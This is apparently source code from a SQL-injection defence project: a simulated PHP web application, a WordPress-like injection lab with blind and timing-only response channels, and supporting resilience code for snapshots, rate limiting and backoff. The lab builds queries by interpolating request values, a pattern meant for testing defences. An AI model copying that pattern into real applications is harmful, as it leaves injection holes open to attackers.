          src += "$val = preg_replace('/\\s+/', ' ', $val);\n";
          break;
        case Transform::kToLower: src += "$val = strtolower($val);\n"; break;
        case Transform::kIntCast: src += "$val = intval($val);\n"; break;
        case Transform::kEscapeSql:
          src += "$val = mysql_real_escape_string($val);\n";
          break;
      }
    }
  }
  // The query template as a double-quoted interpolated PHP string — the
  // fragment extractor splits it exactly where the runtime concatenates.
  std::string tmpl = query_prefix;
  if (!param.empty()) {
    if (quoted) tmpl.push_back('\'');
    tmpl += "$val";
    if (quoted) tmpl.push_back('\'');
  }
  tmpl += query_suffix;
  // Escape for a double-quoted PHP string: backslashes and double quotes.
  std::string escaped;
  for (char c : tmpl) {
    if (c == '\\' || c == '"') escaped.push_back('\\');
    escaped.push_back(c);
  }
  src += "$query = \"" + escaped + "\";\n";
  src += "$result = mysql_query($query);\n";
  return src;
}

// ---------------------------------------------------------------------------
// Application
// ---------------------------------------------------------------------------

Application::Application(std::unique_ptr<db::Database> database)
    : db_(std::move(database)) {}

void Application::AddEndpoint(Endpoint endpoint, std::string source_name) {
  sources_.push_back(
      php::SourceFile{std::move(source_name), endpoint.SynthesizePhpSource()});
  endpoints_.push_back(std::move(endpoint));
}

void Application::AddSourceFile(php::SourceFile file) {
  sources_.push_back(std::move(file));
}

void Application::AddRoute(std::string path, RouteHandler handler,
                           php::SourceFile source) {
  routes_.emplace_back(std::move(path), std::move(handler));
  sources_.push_back(std::move(source));
}

void Application::SetBoilerplateQueries(std::vector<std::string> queries) {
  boilerplate_ = std::move(queries);
}

Application::QueryOutcome Application::RunQuery(const std::string& sql,
                                                const http::Request& request) {
  QueryOutcome out;
  ++stats_.queries_issued;
  if (gate_) {
    GateDecision decision = gate_(sql, request);
    if (decision.action == GateDecision::Action::kBlockTerminate) {
      ++stats_.queries_blocked;
      out.blocked_terminate = true;
      return out;
    }
    if (decision.action == GateDecision::Action::kBlockError) {
      ++stats_.queries_blocked;
      // Error virtualization: the application sees an ordinary query
      // failure and handles it through its normal error path.
      out.db_error = true;
      out.error_message = "query failed";
      return out;
    }
  }
  auto result = db_->Execute(sql);
  if (!result.ok()) {
    out.db_error = true;
    out.error_message = result.status().message();
    return out;
  }
  stats_.db_virtual_time_ms += result.value().virtual_time_ms;
  out.result = std::move(result.value());
  return out;
}

http::Response Application::Handle(const http::Request& request) {
  stats_ = RequestStats{};
  request_terminated_ = false;

  // Boilerplate queries (options, current user, ...) run on every request.
  for (const std::string& q : boilerplate_) {
    QueryOutcome out = RunQuery(q, request);
    if (out.blocked_terminate) {
      return http::Response{500, "", 0.0};  // blank page
    }
  }

  for (const auto& [path, handler] : routes_) {
    if (path != request.path) continue;
    QueryRunner runner =
        [this, &request](const std::string& sql) -> StatusOr<db::ExecResult> {
      QueryOutcome out = RunQuery(sql, request);
      if (out.blocked_terminate) {
        request_terminated_ = true;
        return Status::Unavailable("request terminated by Joza");
      }
      if (out.db_error) {
        return Status::InvalidArgument(out.error_message);
      }
      return std::move(out.result);
    };
    http::Response resp = handler(request, runner);
    if (request_terminated_) {
      return http::Response{500, "", stats_.db_virtual_time_ms};
    }
    resp.virtual_time_ms = stats_.db_virtual_time_ms;
    return resp;
  }

  for (const Endpoint& ep : endpoints_) {
    if (ep.path == request.path) return HandleEndpoint(ep, request);
  }
  return http::Response{404, "Not Found", stats_.db_virtual_time_ms};
}

http::Response Application::HandleEndpoint(const Endpoint& ep,
                                           const http::Request& request) {
  std::string value;
  if (!ep.param.empty()) {
    value = ApplyChain(ep.transforms, request.Param(ep.param));
  }
  const std::string sql = ep.BuildQuery(value);
  QueryOutcome out = RunQuery(sql, request);
  if (out.blocked_terminate) {
    return http::Response{500, "", stats_.db_virtual_time_ms};
  }

  http::Response resp;
  resp.virtual_time_ms = stats_.db_virtual_time_ms;
  switch (ep.mode) {
    case ResponseMode::kData: {
      if (out.db_error) {
        resp.status = 200;
        resp.body = "<div class=\"error\">Database error: " +
                    out.error_message + "</div>";
        break;
      }
      std::string body = "<ul>";
      for (const auto& row : out.result.rows) {
        body += "<li>";
        for (std::size_t i = 0; i < row.size(); ++i) {
          if (i > 0) body += " | ";
          body += row[i].as_string();
        }
        body += "</li>";
      }
      body += "</ul>";
      if (out.result.columns.empty()) {
        body = "<p>rows affected: " + std::to_string(out.result.affected) +
               "</p>";
      }
      resp.body = std::move(body);
      break;
    }
    case ResponseMode::kBlind: {
      // Standard blind channel: error page vs results vs empty.
      if (out.db_error) {
        resp.status = 500;
        resp.body = "<h1>Error</h1>";
      } else if (out.result.rows.empty() && out.result.affected == 0) {
        resp.body = "<p>no results</p>";
      } else {
        resp.body = "<p>results found</p>";
      }
      break;
    }
    case ResponseMode::kDoubleBlind: {
      // Constant body regardless of outcome; only timing leaks.
      resp.body = "<p>ok</p>";
      break;
    }
  }
  return resp;
}

// ---------------------------------------------------------------------------
// WordPress-like testbed application
// ---------------------------------------------------------------------------

namespace {

// Core sources contributing the base fragment vocabulary. Mirrors Table
// III: real WordPress ships fragments like UNION, AND, OR, SELECT, CHAR,
// comment markers, quotes, GROUP BY, ORDER BY, CAST, WHERE 1.
const char* kCoreSource = R"PHP(<?php
// wp-includes/query.php (abridged model)
$found_rows = "SELECT COUNT(*) FROM wp_posts WHERE post_status = 'publish'";
$join_clause = " LEFT JOIN wp_postmeta ON wp_posts.id = wp_postmeta.post_id ";
$where_one = "WHERE 1";
$and_kw = " AND ";
$or_kw = " OR ";
$union_kw = "UNION";
$select_kw = "SELECT";
$charfn = "CHAR";
$castfn = "CAST";
$hash_comment = "#";
$dq = "\"";
$bt = "`";
$group_by = "GROUP BY";
$order_by = "ORDER BY";
$eq = "=";
$limit_kw = " LIMIT ";
$options = "SELECT option_value FROM wp_options WHERE option_name = '$name' LIMIT 1";
$user_q = "SELECT id, login FROM wp_users WHERE id = ";
$recent = "SELECT id, title FROM wp_posts ORDER BY id DESC LIMIT 10";
$count_comments = "SELECT COUNT(*) FROM wp_comments WHERE post_id = ";
$meta_q = "SELECT post_id, meta_key, meta_value FROM wp_postmeta WHERE post_id = ";
$popular = "SELECT id, title FROM wp_posts WHERE post_status = 'publish' ORDER BY views DESC LIMIT 5";
)PHP";

// Rendering a WordPress page takes roughly 20 database queries (options,
// user, theme, menus, widgets, counters — Section VI-A). All constant
// text, which is exactly why the query cache dominates read traffic.
std::vector<std::string> MakeBoilerplate() {
  std::vector<std::string> queries = {
      "SELECT id, login FROM wp_users WHERE id = 1",
      "SELECT COUNT(*) FROM wp_posts WHERE post_status = 'publish'",
      "SELECT id, title FROM wp_posts ORDER BY id DESC LIMIT 10",
      "SELECT COUNT(*) FROM wp_comments WHERE post_id = 1",
      "SELECT post_id, meta_key, meta_value FROM wp_postmeta "
      "WHERE post_id = 1",
      "SELECT id, title FROM wp_posts WHERE post_status = 'publish' "
      "ORDER BY views DESC LIMIT 5",
  };
  for (const char* option :
       {"siteurl", "template", "blogname", "stylesheet", "home",
        "active_plugins", "timezone", "permalink_structure", "sidebar",
        "widget_recent", "theme_mods", "blog_charset", "date_format"}) {
    queries.push_back(
        "SELECT option_value FROM wp_options WHERE option_name = '" +
        std::string(option) + "' LIMIT 1");
  }
  return queries;
}

}  // namespace

std::unique_ptr<Application> MakeWordpressLikeApp(std::uint64_t seed,
                                                  std::size_t posts) {
  auto database = std::make_unique<db::Database>();
  using db::Column;
  using T = sql::ColumnDef::Type;

  database->CreateTable("wp_options", {{"option_name", T::kText},
                                       {"option_value", T::kText}});
  database->InsertRow("wp_options",
                      {db::Value(std::string("siteurl")),
                       db::Value(std::string("http://testbed.local"))});
  database->InsertRow("wp_options", {db::Value(std::string("template")),
                                     db::Value(std::string("twentyten"))});
  database->InsertRow("wp_options", {db::Value(std::string("blogname")),
                                     db::Value(std::string("WP-SQLI-LAB"))});

  database->CreateTable("wp_users", {{"id", T::kInt},
                                     {"login", T::kText},
                                     {"pass", T::kText},
                                     {"email", T::kText}});
  database->InsertRow("wp_users", {db::Value(std::int64_t{1}),
                                   db::Value(std::string("admin")),
                                   db::Value(std::string("s3cr3t_hash")),
                                   db::Value(std::string("admin@testbed"))});
  database->InsertRow("wp_users", {db::Value(std::int64_t{2}),
                                   db::Value(std::string("editor")),
                                   db::Value(std::string("ed_hash")),
                                   db::Value(std::string("ed@testbed"))});

  database->CreateTable("wp_posts", {{"id", T::kInt},
                                     {"title", T::kText},
                                     {"body", T::kText},
                                     {"post_status", T::kText},
                                     {"views", T::kInt}});
  Rng rng(seed);
  for (std::size_t i = 1; i <= posts; ++i) {
    database->InsertRow(
        "wp_posts",
        {db::Value(static_cast<std::int64_t>(i)),
         db::Value("Post " + std::to_string(i) + " " + rng.NextToken(6)),
         db::Value("Body text " + rng.NextToken(24)),
         db::Value(std::string("publish")),
         db::Value(static_cast<std::int64_t>(rng.NextBelow(1000)))});
  }

  database->CreateTable("wp_comments", {{"id", T::kInt},
                                        {"post_id", T::kInt},
                                        {"author", T::kText},
                                        {"body", T::kText}});
  database->CreateTable("wp_postmeta", {{"post_id", T::kInt},
                                        {"meta_key", T::kText},
                                        {"meta_value", T::kText}});

  auto app = std::make_unique<Application>(std::move(database));
  app->AddSourceFile({"wp-includes/query.php", kCoreSource});
  app->SetBoilerplateQueries(MakeBoilerplate());

  // Built-in, correctly-coded core routes.
  // "/" — front page (pure boilerplate + recent posts).
  app->AddEndpoint(
      Endpoint{"/", "", {}, "SELECT id, title FROM wp_posts "
               "WHERE post_status = 'publish' ORDER BY id DESC",
               " LIMIT 10", false, ResponseMode::kData},
      "wp-core/front.php");
  // "/post?id=N" — sanitized with intval, not injectable.
  app->AddEndpoint(
      Endpoint{"/post", "id", {Transform::kIntCast},
               "SELECT id, title, body FROM wp_posts WHERE id = ",
               "", false, ResponseMode::kData},
      "wp-core/single.php");
  // "/search?s=..." — escaped, quoted context, not injectable.
  app->AddEndpoint(
      Endpoint{"/search", "s", {Transform::kEscapeSql},
               "SELECT id, title FROM wp_posts WHERE title LIKE '%",
               "%' ORDER BY id DESC LIMIT 10", false, ResponseMode::kData},
      "wp-core/search.php");
  // "/comment" POST — escaped insert (the write workload).
  app->AddEndpoint(
      Endpoint{"/comment", "body", {Transform::kEscapeSql},
               "INSERT INTO wp_comments (id, post_id, author, body) "
               "VALUES (1, 1, 'anon', ",
               ")", true, ResponseMode::kData},
      "wp-core/comment.php");
  return app;
}

}  // namespace joza::webapp
