// Crash-durable ruleset snapshots.
//
// The PTI trust vocabulary is built by broadcasting fragment updates to the
// daemon fleet; after a crash the gateway used to restart at version 0 with
// an empty ruleset and re-learn everything from scratch. A snapshot
// persists the applied fragment set plus its version so a restarted
// gateway warm-starts at the version it crashed at.
//
// Durability discipline:
//   * writes go to `<path>.tmp`, are fsync'd, then atomically renamed over
//     the target — a crash mid-write leaves the previous snapshot intact;
//   * the payload carries a magic/format tag and an FNV-1a checksum over
//     every preceding byte; the loader re-verifies both.
//
// Loading is fail-closed: any anomaly (short file, bad magic, version skew
// of the format, checksum mismatch, truncated fragment) returns an error
// and the caller starts cold at version 0 — a corrupt snapshot must never
// widen the trust vocabulary.
#pragma once

#include <cstdint>
#include <string>

#include "phpsrc/fragments.h"
#include "util/status.h"

namespace joza::resilience {

inline constexpr char kSnapshotMagic[8] = {'J', 'Z', 'S', 'N',
                                           'A', 'P', '0', '1'};

struct RulesetSnapshotData {
  std::uint64_t version = 0;
  php::FragmentSet fragments;
};

// Serializes `fragments` + `version` to `path` via write-tmp/fsync/rename.
// Consults the kSnapshotIo fault point (injected failures surface as
// Unavailable and leave the previous snapshot untouched).
Status SaveRulesetSnapshot(const std::string& path,
                           const php::FragmentSet& fragments,
                           std::uint64_t version);

// Parses and verifies the snapshot at `path`. Fail-closed: every anomaly
// is an error; the returned data is only populated on full verification.
StatusOr<RulesetSnapshotData> LoadRulesetSnapshot(const std::string& path);

// Parses a snapshot image already in memory (the loader's core; exposed so
// fuzzers can drive it without filesystem round trips).
StatusOr<RulesetSnapshotData> ParseRulesetSnapshot(std::string_view image);

// Serializes to an in-memory image (round-trip testing).
std::string EncodeRulesetSnapshot(const php::FragmentSet& fragments,
                                  std::uint64_t version);

// --- Tenant-qualified snapshots --------------------------------------------
//
// A multi-tenant deployment persists one snapshot per tenant; qualifying
// the configured base path (rather than taking N paths) keeps the CLI
// surface unchanged. The default tenant also owns any legacy un-suffixed
// snapshot left behind by a pre-multi-tenant deployment: the loader falls
// back to it (migration shim), so a fleet upgrade warm-starts from the old
// single-engine snapshot instead of silently restarting at version 0.

// Name of the implicit tenant every request without an explicit tenant id
// routes to (and the owner of legacy snapshots).
inline constexpr char kDefaultTenantName[] = "default";

// "<base>.<tenant>". The tenant id must already be validated by the caller
// (the fleet rejects anything outside [A-Za-z0-9_-]{1,64}, so a qualified
// path can never traverse out of the base path's directory).
std::string TenantSnapshotPath(const std::string& base,
                               std::string_view tenant);

// Loads the tenant-qualified snapshot; for the default tenant only, falls
// back to the legacy un-suffixed `base` when no qualified file exists.
StatusOr<RulesetSnapshotData> LoadTenantRulesetSnapshot(
    const std::string& base, std::string_view tenant);

}  // namespace joza::resilience
