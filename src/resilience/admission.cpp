#include "resilience/admission.h"

#include <algorithm>

namespace joza::resilience {

AimdLimiter::AimdLimiter(AimdOptions options) : options_(options) {
  options_.min_limit = std::max(options_.min_limit, 1.0);
  options_.max_limit = std::max(options_.max_limit, options_.min_limit);
  limit_ = std::clamp(options_.initial_limit, options_.min_limit,
                      options_.max_limit);
}

bool AimdLimiter::TryAcquire() {
  if (!options_.enabled) return true;
  std::lock_guard<std::mutex> lock(mu_);
  if (static_cast<double>(inflight_) >= limit_) {
    ++stats_.throttled;
    return false;
  }
  ++inflight_;
  ++stats_.admitted;
  return true;
}

void AimdLimiter::Release(bool overloaded) {
  if (!options_.enabled) return;
  std::lock_guard<std::mutex> lock(mu_);
  if (inflight_ > 0) --inflight_;
  if (overloaded) {
    ++stats_.overload_signals;
    const auto now = Clock::now();
    if (now - last_decrease_ >= options_.decrease_cooldown) {
      limit_ = std::max(options_.min_limit, limit_ * options_.decrease);
      last_decrease_ = now;
      ++stats_.decreases;
    }
  } else {
    // Additive increase scaled by 1/limit: one full unit of headroom per
    // `limit` on-time completions (the TCP congestion-avoidance shape).
    limit_ = std::min(options_.max_limit,
                      limit_ + options_.increase / std::max(limit_, 1.0));
  }
}

double AimdLimiter::limit() const {
  std::lock_guard<std::mutex> lock(mu_);
  return limit_;
}

std::size_t AimdLimiter::inflight() const {
  std::lock_guard<std::mutex> lock(mu_);
  return inflight_;
}

AimdStats AimdLimiter::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

ServiceTimeEwma::ServiceTimeEwma(double alpha)
    : alpha_(std::clamp(alpha, 0.01, 1.0)) {}

void ServiceTimeEwma::Record(std::chrono::microseconds sample) {
  std::lock_guard<std::mutex> lock(mu_);
  const double us = static_cast<double>(sample.count());
  if (!seeded_) {
    estimate_us_ = us;
    seeded_ = true;
    return;
  }
  estimate_us_ = alpha_ * us + (1.0 - alpha_) * estimate_us_;
}

std::chrono::microseconds ServiceTimeEwma::estimate() const {
  std::lock_guard<std::mutex> lock(mu_);
  return std::chrono::microseconds(static_cast<std::int64_t>(estimate_us_));
}

}  // namespace joza::resilience
