#include "resilience/hedge.h"

#include <algorithm>

namespace joza::resilience {

RetryBudget::RetryBudget(RetryBudgetOptions options)
    : options_(options),
      bucket_(TokenBucketOptions{options.capacity, /*refill_per_sec=*/0.0,
                                 /*initial=*/-1},
              TokenBucket::Clock::now()) {}

bool RetryBudget::TrySpend() {
  if (!enabled()) return true;
  std::lock_guard<std::mutex> lock(mu_);
  if (bucket_.TryWithdraw(1.0, TokenBucket::Clock::now())) return true;
  ++denied_;
  return false;
}

void RetryBudget::RecordSuccess() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  bucket_.Deposit(options_.earn_per_success);
}

double RetryBudget::available() const {
  std::lock_guard<std::mutex> lock(mu_);
  // The bucket has no time-based refill; const_cast-free read via a copy.
  TokenBucket copy = bucket_;
  return copy.available(TokenBucket::Clock::now());
}

std::size_t RetryBudget::denied() const {
  std::lock_guard<std::mutex> lock(mu_);
  return denied_;
}

LatencyTracker::LatencyTracker(std::size_t window)
    : ring_(std::max<std::size_t>(window, 8)) {}

void LatencyTracker::Record(std::chrono::microseconds sample) {
  std::lock_guard<std::mutex> lock(mu_);
  ring_[next_] = sample;
  next_ = (next_ + 1) % ring_.size();
  count_ = std::min(count_ + 1, ring_.size());
}

std::size_t LatencyTracker::samples() const {
  std::lock_guard<std::mutex> lock(mu_);
  return count_;
}

std::chrono::microseconds LatencyTracker::Quantile(
    double q, std::chrono::microseconds fallback,
    std::size_t min_samples) const {
  std::lock_guard<std::mutex> lock(mu_);
  if (count_ < std::max<std::size_t>(min_samples, 1)) return fallback;
  std::vector<std::chrono::microseconds> sorted(ring_.begin(),
                                                ring_.begin() + count_);
  std::sort(sorted.begin(), sorted.end());
  q = std::clamp(q, 0.0, 1.0);
  const std::size_t idx = std::min(
      count_ - 1, static_cast<std::size_t>(q * static_cast<double>(count_)));
  return sorted[idx];
}

}  // namespace joza::resilience
