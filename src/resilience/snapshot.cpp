#include "resilience/snapshot.h"

#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "resilience/injector.h"
#include "util/hash.h"

namespace joza::resilience {

namespace {

void PutU64(std::string& out, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) {
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
  }
}

void PutU32(std::string& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) {
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xff));
  }
}

// Bounds-checked little-endian reads; false = truncated image.
bool GetU64(std::string_view image, std::size_t& pos, std::uint64_t& v) {
  if (image.size() - pos < 8) return false;
  v = 0;
  for (int i = 0; i < 8; ++i) {
    v |= static_cast<std::uint64_t>(
             static_cast<unsigned char>(image[pos + i]))
         << (8 * i);
  }
  pos += 8;
  return true;
}

bool GetU32(std::string_view image, std::size_t& pos, std::uint32_t& v) {
  if (image.size() - pos < 4) return false;
  v = 0;
  for (int i = 0; i < 4; ++i) {
    v |= static_cast<std::uint32_t>(
             static_cast<unsigned char>(image[pos + i]))
         << (8 * i);
  }
  pos += 4;
  return true;
}

bool GetBytes(std::string_view image, std::size_t& pos, std::size_t len,
              std::string_view& out) {
  if (image.size() - pos < len) return false;
  out = image.substr(pos, len);
  pos += len;
  return true;
}

}  // namespace

std::string EncodeRulesetSnapshot(const php::FragmentSet& fragments,
                                  std::uint64_t version) {
  std::string out;
  out.append(kSnapshotMagic, sizeof(kSnapshotMagic));
  PutU64(out, version);
  PutU64(out, fragments.fragments().size());
  for (const php::Fragment& f : fragments.fragments()) {
    PutU32(out, static_cast<std::uint32_t>(f.text.size()));
    out.append(f.text);
    PutU32(out, static_cast<std::uint32_t>(f.source_path.size()));
    out.append(f.source_path);
    PutU64(out, f.line);
  }
  PutU64(out, Fnv1a64(out));
  return out;
}

StatusOr<RulesetSnapshotData> ParseRulesetSnapshot(std::string_view image) {
  constexpr std::size_t kHeader = sizeof(kSnapshotMagic) + 8 + 8;
  constexpr std::size_t kTrailer = 8;  // checksum
  if (image.size() < kHeader + kTrailer) {
    return Status::ParseError("snapshot truncated: " +
                              std::to_string(image.size()) + " bytes");
  }
  if (std::memcmp(image.data(), kSnapshotMagic, sizeof(kSnapshotMagic)) != 0) {
    return Status::ParseError("snapshot magic mismatch (format skew?)");
  }
  // Checksum covers everything before the trailing 8 bytes. Verify first so
  // a bit flip anywhere — including in the length fields the decoder below
  // trusts for allocation sizing — is caught before decoding.
  const std::string_view body = image.substr(0, image.size() - kTrailer);
  std::size_t tail_pos = image.size() - kTrailer;
  std::uint64_t stored_sum = 0;
  GetU64(image, tail_pos, stored_sum);
  if (Fnv1a64(body) != stored_sum) {
    return Status::ParseError("snapshot checksum mismatch");
  }

  std::size_t pos = sizeof(kSnapshotMagic);
  RulesetSnapshotData data;
  std::uint64_t count = 0;
  if (!GetU64(body, pos, data.version) || !GetU64(body, pos, count)) {
    return Status::ParseError("snapshot header truncated");
  }
  // A count that cannot fit in the remaining bytes is corruption even if
  // the checksum matched (malicious construction) — refuse before looping.
  if (count > (body.size() - pos) / (4 + 4 + 8)) {
    return Status::ParseError("snapshot fragment count implausible: " +
                              std::to_string(count));
  }
  for (std::uint64_t i = 0; i < count; ++i) {
    std::uint32_t text_len = 0, path_len = 0;
    std::uint64_t line = 0;
    std::string_view text, path;
    if (!GetU32(body, pos, text_len) || !GetBytes(body, pos, text_len, text) ||
        !GetU32(body, pos, path_len) || !GetBytes(body, pos, path_len, path) ||
        !GetU64(body, pos, line)) {
      return Status::ParseError("snapshot fragment " + std::to_string(i) +
                                " truncated");
    }
    data.fragments.AddRaw(text, path, static_cast<std::size_t>(line));
  }
  if (pos != body.size()) {
    return Status::ParseError("snapshot has trailing garbage");
  }
  return data;
}

Status SaveRulesetSnapshot(const std::string& path,
                           const php::FragmentSet& fragments,
                           std::uint64_t version) {
  const std::string image = EncodeRulesetSnapshot(fragments, version);
  const std::string tmp = path + ".tmp";

  if (FaultInjector::Global().ShouldFire(FaultPoint::kSnapshotIo)) {
    ::unlink(tmp.c_str());
    return Status::Unavailable("injected snapshot I/O failure");
  }

  const int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Unavailable("snapshot open failed: " +
                               std::string(std::strerror(errno)));
  }
  std::size_t off = 0;
  while (off < image.size()) {
    const ssize_t n = ::write(fd, image.data() + off, image.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      const int saved = errno;
      ::close(fd);
      ::unlink(tmp.c_str());
      return Status::Unavailable("snapshot write failed: " +
                                 std::string(std::strerror(saved)));
    }
    off += static_cast<std::size_t>(n);
  }
  if (::fsync(fd) != 0) {
    const int saved = errno;
    ::close(fd);
    ::unlink(tmp.c_str());
    return Status::Unavailable("snapshot fsync failed: " +
                               std::string(std::strerror(saved)));
  }
  if (::close(fd) != 0) {
    ::unlink(tmp.c_str());
    return Status::Unavailable("snapshot close failed: " +
                               std::string(std::strerror(errno)));
  }
  if (::rename(tmp.c_str(), path.c_str()) != 0) {
    const int saved = errno;
    ::unlink(tmp.c_str());
    return Status::Unavailable("snapshot rename failed: " +
                               std::string(std::strerror(saved)));
  }
  return Status::Ok();
}

std::string TenantSnapshotPath(const std::string& base,
                               std::string_view tenant) {
  std::string path = base;
  path += '.';
  path.append(tenant);
  return path;
}

StatusOr<RulesetSnapshotData> LoadTenantRulesetSnapshot(
    const std::string& base, std::string_view tenant) {
  auto qualified = LoadRulesetSnapshot(TenantSnapshotPath(base, tenant));
  if (qualified.ok() || tenant != kDefaultTenantName) return qualified;
  if (qualified.status().code() != StatusCode::kNotFound) return qualified;
  // Migration shim: a pre-multi-tenant deployment persisted the default
  // tenant's snapshot at the un-suffixed base path. Only a missing
  // qualified file falls through — a corrupt one stays an error
  // (fail-closed; never mask it with stale legacy data).
  return LoadRulesetSnapshot(base);
}

StatusOr<RulesetSnapshotData> LoadRulesetSnapshot(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) {
    return Status::NotFound("no snapshot at " + path + ": " +
                            std::string(std::strerror(errno)));
  }
  std::string image;
  char buf[1 << 16];
  for (;;) {
    const ssize_t n = ::read(fd, buf, sizeof(buf));
    if (n < 0) {
      if (errno == EINTR) continue;
      const int saved = errno;
      ::close(fd);
      return Status::Unavailable("snapshot read failed: " +
                                 std::string(std::strerror(saved)));
    }
    if (n == 0) break;
    image.append(buf, static_cast<std::size_t>(n));
  }
  ::close(fd);
  return ParseRulesetSnapshot(image);
}

}  // namespace joza::resilience
