#include "resilience/backoff.h"

#include <algorithm>

namespace joza::resilience {

namespace {

// splitmix64 finalizer: cheap, well-mixed, and pure — the jitter source.
std::uint64_t Mix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ull;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ull;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebull;
  return x ^ (x >> 31);
}

}  // namespace

ExponentialBackoff::ExponentialBackoff(BackoffOptions options)
    : options_(options) {
  options_.jitter = std::clamp(options_.jitter, 0.0, 0.999);
  if (options_.base.count() < 1) options_.base = std::chrono::milliseconds(1);
  if (options_.max < options_.base) options_.max = options_.base;
}

std::chrono::milliseconds ExponentialBackoff::Delay(
    std::size_t failures) const {
  if (failures == 0) return std::chrono::milliseconds(0);
  // base * 2^(failures-1), saturating at max before the multiply overflows.
  std::int64_t nominal = options_.base.count();
  for (std::size_t i = 1; i < failures && nominal < options_.max.count();
       ++i) {
    nominal *= 2;
  }
  nominal = std::min<std::int64_t>(nominal, options_.max.count());
  // Deterministic jitter: scale into [1 - jitter, 1] keyed by the attempt
  // index, so two supervisors crash-looping in sync do not respawn in sync.
  const double unit =
      static_cast<double>(Mix64(failures) >> 11) / 9007199254740992.0;  // 2^53
  const double scale = 1.0 - options_.jitter * unit;
  const auto jittered = static_cast<std::int64_t>(
      static_cast<double>(nominal) * scale);
  return std::chrono::milliseconds(std::max<std::int64_t>(jittered, 1));
}

void ExponentialBackoff::RecordFailure(Clock::time_point now) {
  ++consecutive_failures_;
  next_allowed_ = now + Delay(consecutive_failures_);
}

void ExponentialBackoff::Reset() {
  consecutive_failures_ = 0;
  next_allowed_ = Clock::time_point{};
}

bool ExponentialBackoff::AllowedAt(Clock::time_point now) const {
  return now >= next_allowed_;
}

TokenBucket::TokenBucket(TokenBucketOptions options, Clock::time_point now)
    : options_(options), last_refill_(now) {
  if (options_.capacity < 0) options_.capacity = 0;
  tokens_ = options_.initial < 0
                ? options_.capacity
                : std::min(options_.initial, options_.capacity);
}

void TokenBucket::Refill(Clock::time_point now) {
  if (now <= last_refill_) return;
  const double seconds =
      std::chrono::duration<double>(now - last_refill_).count();
  tokens_ = std::min(options_.capacity,
                     tokens_ + seconds * options_.refill_per_sec);
  last_refill_ = now;
}

bool TokenBucket::TryWithdraw(double cost, Clock::time_point now) {
  Refill(now);
  if (tokens_ < cost) return false;
  tokens_ -= cost;
  return true;
}

void TokenBucket::Deposit(double amount) {
  tokens_ = std::min(options_.capacity, tokens_ + amount);
}

double TokenBucket::available(Clock::time_point now) {
  Refill(now);
  return tokens_;
}

}  // namespace joza::resilience
