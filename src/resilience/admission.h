// Adaptive admission control for the serving tier.
//
// A fixed bounded queue answers overload only at one point (queue full →
// 503) and only by queue depth, which says nothing about whether queued
// work can still meet its deadline. Two cooperating pieces replace it:
//
//   * AimdLimiter — an additive-increase / multiplicative-decrease bound on
//     concurrent in-flight requests. Every on-time completion nudges the
//     limit up; every deadline overrun (the signal that the backend — PTI
//     pool, breaker, database — is saturated) cuts it multiplicatively, so
//     offered concurrency converges on what the tier can actually serve.
//     Refused requests get an immediate 429 instead of queueing.
//   * ServiceTimeEwma — an exponentially-weighted estimate of observed
//     service time. The gateway sheds a dequeued request whose remaining
//     deadline cannot cover the estimate (queue wait already consumed the
//     budget): answering a fast 503 beats burning a worker on work whose
//     client has already timed out.
//
// Both are thread-safe; the limiter is consulted once per request.
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <utility>
#include <vector>

namespace joza::resilience {

struct AimdOptions {
  double min_limit = 1;
  double max_limit = 256;
  double initial_limit = 32;
  double increase = 1.0;   // added per on-time completion (scaled by 1/limit)
  double decrease = 0.5;   // multiplied on an overload signal
  // Successive multiplicative decreases are spaced at least this far
  // apart, so one burst of overruns does not collapse the limit to min.
  std::chrono::milliseconds decrease_cooldown{100};
  // 0 disables the limiter (every request admitted).
  bool enabled = true;
};

struct AimdStats {
  std::size_t admitted = 0;
  std::size_t throttled = 0;         // refused: at the concurrency limit
  std::size_t overload_signals = 0;  // completions that blew the deadline
  std::size_t decreases = 0;         // multiplicative cuts applied
};

class AimdLimiter {
 public:
  using Clock = std::chrono::steady_clock;

  explicit AimdLimiter(AimdOptions options = {});

  // Admission: true reserves one in-flight slot which MUST be released via
  // Release(); false means answer 429 immediately.
  bool TryAcquire();
  // `overloaded` marks a completion that blew its deadline budget (the
  // AIMD decrease signal); on-time completions grow the limit.
  void Release(bool overloaded);

  double limit() const;
  std::size_t inflight() const;
  AimdStats stats() const;

 private:
  AimdOptions options_;
  mutable std::mutex mu_;
  double limit_ = 0;
  std::size_t inflight_ = 0;
  Clock::time_point last_decrease_{};
  AimdStats stats_;
};

// EWMA of request service time, seeded by the first sample.
class ServiceTimeEwma {
 public:
  explicit ServiceTimeEwma(double alpha = 0.2);

  void Record(std::chrono::microseconds sample);
  // Current estimate; zero until the first sample lands.
  std::chrono::microseconds estimate() const;

 private:
  double alpha_;
  mutable std::mutex mu_;
  double estimate_us_ = 0;
  bool seeded_ = false;
};

}  // namespace joza::resilience
