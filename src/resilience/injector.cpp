#include "resilience/injector.h"

#include <cmath>
#include <cstdlib>

namespace joza::resilience {

namespace {

constexpr const char* kNames[] = {
    "daemon-hang", "daemon-kill", "frame-corrupt",
    "short-write", "accept-fail", "slow-client",
    "spawn-fail",  "snapshot-io", "hedge-loss",
};
static_assert(sizeof(kNames) / sizeof(kNames[0]) ==
              static_cast<std::size_t>(FaultPoint::kCount));

std::uint32_t Bit(FaultPoint point) {
  return 1u << static_cast<unsigned>(point);
}

}  // namespace

const char* FaultPointName(FaultPoint point) {
  const auto i = static_cast<std::size_t>(point);
  if (i >= static_cast<std::size_t>(FaultPoint::kCount)) return "?";
  return kNames[i];
}

StatusOr<FaultPoint> ParseFaultPoint(std::string_view name) {
  for (std::size_t i = 0; i < static_cast<std::size_t>(FaultPoint::kCount);
       ++i) {
